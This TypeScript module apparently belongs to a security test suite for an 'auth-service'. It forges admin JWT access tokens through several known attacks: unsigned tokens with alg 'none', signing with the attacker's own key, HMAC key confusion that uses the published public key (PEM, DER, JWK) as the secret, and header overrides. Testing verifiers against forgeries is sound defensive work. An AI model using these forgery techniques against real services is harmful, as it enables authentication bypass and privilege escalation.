import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { readClaims } from './look-inside.ts';
import type { AttackGround } from './open-ground.ts';
import { parse } from './send.ts';

export interface Forgery {
  header?: Record<string, unknown>;
  claims?: Record<string, unknown>;
  /** Makes the signature of what is signed; none is a token that ends with a dot. */
  signature?: (data: string) => string;
}

interface PublishedKey {
  kid: string;
  kty: string;
  crv: string;
  x: string;
  y: string;
}

const encode = (part: object): string => Buffer.from(JSON.stringify(part)).toString('base64url');

/** ES256 (RFC 7518 section 3.4). */
export const withKey =
  (key: KeyObject) =>
  (data: string): string =>
    sign('sha256', Buffer.from(data), { key, dsaEncoding: 'ieee-p1363' }).toString('base64url');

export const withSecret =
  (algorithm: 'sha256' | 'sha384' | 'sha512', secret: string | Buffer) =>
  (data: string): string =>
    createHmac(algorithm, secret).update(data).digest('base64url');

/** A key pair of the attacker. */
export const ownKey = generateKeyPairSync('ec', { namedCurve: 'P-256' });

/** The key that auth-service publishes: whoever wants it has it. */
export async function fetchPublished({ call }: AttackGround): Promise<PublishedKey> {
  const { keys } = parse<{ keys: PublishedKey[] }>(await call({ path: '/auth/.well-known/jwks.json' }));
  const oldest = keys.at(-1);
  if (oldest === undefined) throw new Error('No key is published.');
  return oldest;
}

/** The published key in the forms in which a careless verifier could take it for a secret. */
export function formsOf(jwk: PublishedKey): Record<'PEM' | 'DER' | 'JWK', string | Buffer> {
  const key = createPublicKey({ key: { ...jwk }, format: 'jwk' });
  return {
    PEM: key.export({ format: 'pem', type: 'spki' }),
    DER: key.export({ format: 'der', type: 'spki' }),
    JWK: JSON.stringify(jwk),
  };
}

/**
 * Forges an access token of the admin: auth-service accepts no role that the account does not have.
 * @param forgery what differs from a good token; an undefined claim is left out
 */
export async function forgeToken(ground: AttackGround, forgery: Forgery): Promise<string> {
  const { kid } = await fetchPublished(ground);
  const header = { alg: 'ES256', typ: 'at+jwt', kid, ...forgery.header };
  const claims = { ...readClaims(ground.admin.token), ...forgery.claims };
  const data = `${encode(header)}.${encode(claims)}`;
  return `${data}.${forgery.signature?.(data) ?? ''}`;
}
